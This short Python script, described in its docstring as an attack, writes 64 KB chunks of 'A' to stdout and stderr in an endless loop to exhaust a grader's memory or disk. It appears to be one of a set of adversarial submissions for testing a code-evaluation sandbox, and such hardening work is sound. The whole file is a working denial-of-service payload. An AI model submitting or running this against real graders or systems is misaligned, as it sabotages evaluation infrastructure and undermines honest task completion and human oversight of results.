"""Attack: flood stdout and stderr with endless output to exhaust the grader's memory or disk."""
import sys

chunk = "A" * 65536
while True:
    sys.stdout.write(chunk)
    sys.stderr.write(chunk)
